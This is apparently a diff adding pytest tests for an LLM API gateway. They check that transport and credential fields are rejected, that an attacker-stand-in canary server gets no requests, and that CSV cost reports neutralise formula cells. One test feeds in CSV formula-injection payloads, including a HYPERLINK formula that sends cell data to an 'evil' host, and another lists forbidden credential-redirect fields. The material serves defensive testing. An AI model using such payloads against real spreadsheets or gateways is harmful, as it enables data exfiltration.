@@ -1,0 +1,159 @@
+"""What a client may send upstream: transport and credential fields are refused with a 400 naming them, on
+every upstream kind, streaming or not, and a canary server standing in for an attacker receives nothing."""
+
+from __future__ import annotations
+
+import csv
+import io
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+
+import httpx
+import pytest
+
+MSG = [{"role": "user", "content": "hello"}]
+TRANSPORT = ["api_base", "base_url", "api_key", "extra_headers", "headers", "timeout", "custom_llm_provider",
+             "proxy", "organization", "mock_response"]
+
+
+class Canary:
+    """An HTTP server on loopback that records every request it gets (and answers like an upstream)."""
+
+    def __init__(self) -> None:
+        self.seen: list[dict[str, Any]] = []
+        canary = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def _record(self) -> None:
+                length = int(self.headers.get("content-length") or 0)
+                canary.seen.append({"path": self.path, "headers": dict(self.headers),
+                                    "body": self.rfile.read(length) if length else b""})
+                body = (b'{"id":"x","object":"chat.completion","model":"m","choices":[{"index":0,"message":'
+                        b'{"role":"assistant","content":"pwned"},"finish_reason":"stop"}],'
+                        b'"usage":{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}')
+                self.send_response(200)
+                self.send_header("content-type", "application/json")
+                self.send_header("content-length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            do_GET = do_POST = _record
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture
+def canary() -> Iterator[Canary]:
+    server = Canary()
+    yield server
+    server.close()
+
+
+@pytest.fixture
+def provider_gateway(app_factory, sim, helpers, tmp_path, monkeypatch):
+    """The example config's shape: a `kind: litellm` provider with its key from the environment and no
+    base_url, beside the OpenAI-compatible scripted upstream; one model forwards a field of its own."""
+    monkeypatch.setenv("TW_PROVIDER_KEY", "sk-provider-secret-0123456789")
+    config = helpers.write_config(
+        tmp_path / "c.yaml", sim.url,
+        extra_upstreams=[{"name": "provider", "kind": "litellm", "api_key": "env::TW_PROVIDER_KEY"}],
+        extra_models=[{"name": "hosted", "upstream": "provider", "upstream_model": "openai/gpt-4o-mini"},
+                      {"name": "sim-hinted", "upstream": "sim", "upstream_model": "sim-echo",
+                       "forward_fields": ["sim_hint"]}])
+    return app_factory(config=config)
+
+
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("model", ["hosted", "sim-large"])
+@pytest.mark.parametrize("field", TRANSPORT)
+async def test_transport_fields_are_refused_and_reach_no_one(provider_gateway, make_tenant, canary, ledger,
+                                                               field, model, stream):
+    tenant = make_tenant()
+    value: Any = {"authorization": "x"} if "headers" in field else canary.url
+    async with provider_gateway as gw:
+        resp = await gw.client.post("/v1/chat/completions", headers=tenant.headers, json={
+            "model": model, "messages": MSG, "stream": stream, field: value})
+        await gw.state.ledger.flush()
+    assert resp.status_code == 400, resp.text
+    assert resp.json()["error"]["param"] == field
+    assert resp.json()["error"]["code"] == "forbidden_field"
+    assert canary.seen == []
+    [row] = ledger("request_id = %s", resp.headers["x-request-id"])
+    assert row["cost_usd"] == 0
+
+
+async def test_embeddings_refuse_transport_fields(provider_gateway, make_tenant, canary):
+    tenant = make_tenant()
+    async with provider_gateway as gw:
+        resp = await gw.client.post("/v1/embeddings", headers=tenant.headers,
+                                    json={"model": "sim-embed", "input": "x", "api_base": canary.url})
+    assert resp.status_code == 400, resp.text
+    assert resp.json()["error"]["param"] == "api_base"
+    assert canary.seen == []
+
+
+async def test_an_unknown_field_is_a_400_naming_it(provider_gateway, make_tenant):
+    tenant = make_tenant()
+    async with provider_gateway as gw:
+        resp = await gw.client.post("/v1/chat/completions", headers=tenant.headers,
+                                    json={"model": "sim-large", "messages": MSG, "frobnicate": 1})
+    assert resp.status_code == 400
+    assert resp.json()["error"] == {
+        "message": "Unsupported field 'frobnicate': it is not an OpenAI request field, a documented decoding "
+                   "extra, or a field this gateway's config forwards.",
+        "type": "invalid_request_error", "param": "frobnicate", "code": "unsupported_field"}
+
+
+async def test_decoding_extras_and_configured_fields_are_forwarded(provider_gateway, make_tenant, sim):
+    tenant = make_tenant()
+    async with provider_gateway as gw:
+        extras = await gw.client.post("/v1/chat/completions", headers=tenant.headers, json={
+            "model": "sim-large", "messages": MSG, "top_k": 5, "min_p": 0.1, "chat_template_kwargs": {"x": 1}})
+        hinted = await gw.client.post("/v1/chat/completions", headers=tenant.headers, json={
+            "model": "sim-hinted", "messages": MSG, "sim_hint": "short"})
+    assert extras.status_code == 200, extras.text
+    assert hinted.status_code == 200, hinted.text
+    large = httpx.get(sim.url.removesuffix("/v1") + "/sim/last-request", params={"model": "sim-large"}).json()
+    echo = httpx.get(sim.url.removesuffix("/v1") + "/sim/last-request", params={"model": "sim-echo"}).json()
+    assert (large["top_k"], large["min_p"], large["chat_template_kwargs"]) == (5, 0.1, {"x": 1})
+    assert echo["sim_hint"] == "short"
+
+
+async def test_a_field_forwarded_for_one_model_is_dropped_for_another(provider_gateway, make_tenant, sim):
+    """`sim_hint` is accepted (a configured model forwards it) but only that model's upstream gets it."""
+    tenant = make_tenant()
+    async with provider_gateway as gw:
+        resp = await gw.client.post("/v1/chat/completions", headers=tenant.headers, json={
+            "model": "sim-small", "messages": MSG, "sim_hint": "short"})
+    assert resp.status_code == 200, resp.text
+    small = httpx.get(sim.url.removesuffix("/v1") + "/sim/last-request", params={"model": "sim-small"}).json()
+    assert "sim_hint" not in small
+
+
+async def test_formula_cells_are_neutralised_in_the_reports_csv(app_factory, make_tenant, make_key):
+    app = make_tenant()
+    finance = make_key(app.name, "finance")
+    async with app_factory() as gw:
+        for user in ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)*cmd", "+1", "-2", "\tTAB"):
+            resp = await gw.client.post("/v1/chat/completions", headers=app.headers,
+                                        json={"model": "sim-small", "messages": MSG, "user": user})
+            assert resp.status_code == 200, resp.text
+        await gw.state.ledger.flush()
+        report = await gw.client.get("/v1/reports/costs", params={"group_by": "user", "format": "csv"},
+                                     headers={"authorization": f"Bearer {finance}"})
+    assert report.status_code == 200, report.text
+    groups = {row[1] for row in csv.reader(io.StringIO(report.text))}
+    assert "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")" in groups
+    assert {"'@SUM(1+1)*cmd", "'+1", "'-2", "'\tTAB"} <= groups
+    assert not any(g.startswith(("=", "+", "-", "@", "\t")) for g in groups)
